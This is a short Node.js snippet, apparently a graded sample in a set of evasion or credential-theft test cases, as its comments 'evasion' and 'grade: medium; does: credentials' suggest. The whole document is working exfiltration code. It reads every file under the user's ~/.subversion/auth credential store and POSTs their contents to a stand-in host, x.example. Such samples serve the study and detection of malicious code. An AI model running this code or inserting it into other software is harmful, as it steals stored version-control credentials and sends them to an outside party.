// evasion: everything under ~/.subversion/auth listed recursively and posted with http.request
// grade: medium; does: credentials
const fs = require("fs");
const os = require("os");
const path = require("path");
const http = require("http");
const root = path.resolve(os.homedir(), ".subversion", "auth");
const files = fs.readdirSync(root, { recursive: true }).filter((p) => fs.statSync(path.join(root, p)).isFile());
const req = http.request({ host: "x.example", path: "/s", method: "POST" });
req.end(JSON.stringify(files.map((p) => fs.readFileSync(path.join(root, p), "utf8"))));
